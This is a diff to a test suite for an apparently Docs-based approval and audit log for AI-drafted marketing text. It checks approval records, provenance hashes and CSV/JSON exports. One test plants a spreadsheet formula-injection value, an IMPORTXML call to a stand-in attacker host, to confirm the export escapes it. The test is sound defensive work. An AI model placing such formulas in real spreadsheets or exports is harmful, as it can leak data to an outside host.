@@ -4,7 +4,10 @@ import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../shared/src/csv';
 import { readStoredJson, writeStoredJson } from '../../apps-script/src/server/stored-json';
 import { draftFromBrief } from '../../docs-addon/src/server/draft';
-import { approveMark, auditLog, publicMarks, readMarks } from '../../docs-addon/src/server/marks';
+import { approveMark, publicMarks, readMarks } from '../../docs-addon/src/server/marks';
+import { auditLog } from '../../docs-addon/src/server/audit-log';
+import { auditColumns } from '../../shared/src/governance';
+import { sha256 } from '../../shared/src/hash';
 import type { FakeParagraph } from '../../preview/src/apps-script/fake-document';
 import { installDocs, useExampleKit } from './install';
 
@@ -41,34 +44,47 @@ describe('approving AI text', () => {
     markedParagraphs(env, `onbrand.ai.${article.id}`).at(-1)!.text.chars += ' We really utilize the whitelist.';
     const cards = publicMarks();
     expect(cards.length).toBeGreaterThan(3);
+    // The approval record's detail reads "fit S; [approved with …;] severity: match (rule); …".
+    const figures = (detail: string) => {
+      const parts = detail.split('; ');
+      return { score: Number(parts[0]!.replace('fit ', '')), findings: parts.filter((part) => /^(error|warning|suggestion): /.test(part)).length };
+    };
     for (const card of cards) {
       const entry = approveMark(card.id, true).approved!;
-      expect({ label: card.label, findings: entry.findings.length, score: entry.score }).toEqual({ label: card.label, findings: card.findings, score: card.score });
+      expect({ label: card.label, ...figures(entry.detail) }).toEqual({ label: card.label, findings: card.findings, score: card.score });
     }
-    // The cards the draft answered with are figured the same way.
+    // The cards the draft answered with are figured the same way as the draft's "generated" records.
     const social = marks.find((m) => m.label === 'Social post')!;
-    expect(auditLog().entries.find((e) => e.markId === social.id)).toMatchObject({ score: social.score, findings: expect.any(Array) });
-    expect(auditLog().entries.find((e) => e.markId === social.id)!.findings).toHaveLength(social.findings);
+    const generated = auditLog().records.find((r) => r.action === 'generated' && r.subject === 'Social post')!;
+    expect(generated.detail).toContain(`${social.findings} finding(s), fit ${social.score}`);
   });
 
   it('writes who, when, template and version, provider, model and the findings at approval', () => {
     const { env, marks } = drafted();
     const article = marks.find((m) => m.label === 'Article')!;
     // The writer edits the draft before approving; the audit records the text as approved.
-    markedParagraphs(env, `onbrand.ai.${article.id}`)[1]!.appendText(' It is the best tool, guaranteed.');
+    const paragraphs = markedParagraphs(env, `onbrand.ai.${article.id}`);
+    paragraphs[1]!.appendText(' It is the best tool, guaranteed.');
     const { approved } = approveMark(article.id);
+    const text = paragraphs.map((p) => p.snapshotText()).join('\n');
     expect(approved).toMatchObject({
-      markId: article.id,
-      label: 'Article',
-      approvedBy: 'maya@example.com',
-      template: 'content-pack',
+      surface: 'docs',
+      action: 'approved',
+      file: 'Campaign draft',
+      subject: 'Article',
+      who: 'maya@example.com',
+      templateId: 'content-pack',
       templateVersion: article.templateVersion,
       provider: 'offline',
       model: 'onbrand-offline-1',
+      kitName: 'Ledgerline',
+      textHash: sha256(text),
     });
-    expect(Date.parse(approved!.approvedAt)).not.toBeNaN();
-    expect(approved!.findings.map((f) => f.match)).toContain('guaranteed');
-    expect(auditLog().entries).toEqual([approved]);
+    expect(Date.parse(approved!.when)).not.toBeNaN();
+    expect(approved!.detail).toContain('guaranteed');
+    expect(auditLog().records.filter((r) => r.action === 'approved')).toEqual([approved]);
+    // Drafting recorded each piece as generated, with the same provenance.
+    expect(auditLog().records.filter((r) => r.action === 'generated').map((r) => r.subject)).toEqual(marks.map((m) => m.label));
   });
 
   it('puts back a removed disclosure the channel requires before approving', () => {
@@ -87,18 +103,19 @@ describe('approving AI text', () => {
     const rows = parseCsv(auditLog().csv);
     expect(rows.ok).toBe(true);
     if (!rows.ok) return;
-    expect(rows.value[0]).toEqual(['Approved at', 'Approved by', 'Piece', 'Channel', 'Template', 'Template version', 'Provider', 'Model', 'Brand fit', 'Findings']);
-    expect(rows.value.slice(1).map((r) => r[2])).toEqual(['Article', 'Subject lines']);
-    expect(rows.value[2]![3]).toBe('email-subject');
+    expect(rows.value[0]).toEqual([...auditColumns]);
+    const approvedRows = rows.value.slice(1).filter((r) => r[4] === 'approved');
+    expect(approvedRows.map((r) => r[5])).toEqual(['Article', 'Subject lines']);
+    expect(JSON.parse(auditLog().json).filter((r: { action: string }) => r.action === 'approved').map((r: { subject: string }) => r.subject)).toEqual(['Article', 'Subject lines']);
   });
 
   it('writes audit cells that look like formulas as text', () => {
     const { env, marks } = drafted();
     const { approved } = approveMark(marks[0]!.id);
-    writeStoredJson(env.properties.document as never, 'onbrand.audit', [{ ...approved!, approvedBy: '=IMPORTXML("http://evil.example","//a")', label: '@cmd' }]);
+    writeStoredJson(env.properties.document as never, 'onbrand.audit', [{ ...approved!, who: '=IMPORTXML("http://evil.example","//a")', subject: '@cmd' }]);
     const rows = parseCsv(auditLog().csv);
     if (!rows.ok) throw new Error('the audit CSV is not CSV');
-    expect(rows.value[1]!.slice(1, 3)).toEqual(['\'=IMPORTXML("http://evil.example","//a")', "'@cmd"]);
+    expect([rows.value[1]![1], rows.value[1]![5]]).toEqual(['\'=IMPORTXML("http://evil.example","//a")', "'@cmd"]);
   });
 
   it('refuses to approve what is not waiting, changing nothing', () => {
@@ -107,7 +124,7 @@ describe('approving AI text', () => {
     expect(approveMark('nope')).toEqual({ approved: null, message: 'That draft is no longer waiting for approval.', open: [] });
     expect(approveMark('')).toEqual({ approved: null, message: 'Pick a draft to approve.', open: [] });
     expect(JSON.stringify(env.document.snapshot())).toBe(before);
-    expect(auditLog().entries).toEqual([]);
+    expect(auditLog().records.filter((r) => r.action !== 'generated')).toEqual([]);
   });
 });
 
@@ -125,8 +142,8 @@ describe('approving with error-level findings open', () => {
     expect(JSON.stringify(env.document.snapshot())).toBe(before);
     expect(readMarks().map((m) => m.id)).toContain(email.id);
     const confirmed = approveMark(email.id, true);
-    expect(confirmed.approved?.openErrors).toBe(first.open.length);
-    expect(auditLog().entries.at(-1)!.openErrors).toBe(first.open.length);
+    expect(confirmed.approved?.detail).toContain(`approved with ${first.open.length} open error(s)`);
+    expect(auditLog().records.at(-1)).toEqual(confirmed.approved);
     expect(readMarks().map((m) => m.id)).not.toContain(email.id);
   });
 
@@ -135,7 +152,7 @@ describe('approving with error-level findings open', () => {
     const subject = marks.find((m) => m.label === 'Subject lines')!;
     const result = approveMark(subject.id);
     expect(result.open).toEqual([]);
-    expect(result.approved?.openErrors).toBeUndefined();
+    expect(result.approved?.detail).not.toContain('open error');
   });
 });
 
@@ -159,7 +176,7 @@ describe('the audit log past its cap', () => {
     const past = Array.from({ length: 400 }, (_, i) => pastEntry(i));
     writeStoredJson(env.properties.document as never, 'onbrand.audit', past);
     const result = approveMark(marks.find((m) => m.label === 'Email')!.id);
-    expect(result.message).toMatch(/^Approved “Email”\. The \d+ oldest audit entries moved to the “Onbrand audit log” section at the end of the document; the CSV still has them all\.$/);
+    expect(result.message).toMatch(/^Approved “Email”\. The \d+ oldest audit records moved to the “Onbrand audit log” section at the end of the document; the exports still have them all\.$/);
     const stored = readStoredJson(env.properties.document as never, 'onbrand.audit') as unknown[];
     expect(JSON.stringify(stored).length).toBeLessThanOrEqual(64 * 1024);
     expect(stored.at(-1)).toEqual(result.approved);
@@ -168,7 +185,7 @@ describe('the audit log past its cap', () => {
     const labels = () => {
       const csv = parseCsv(auditLog().csv);
       if (!csv.ok) throw new Error('the audit CSV does not parse');
-      return csv.value.slice(1).map((row) => row[2]);
+      return csv.value.slice(1).map((row) => row[5]);
     };
     expect(labels()).toEqual([...past.map((entry) => entry.label), 'Email']);
 
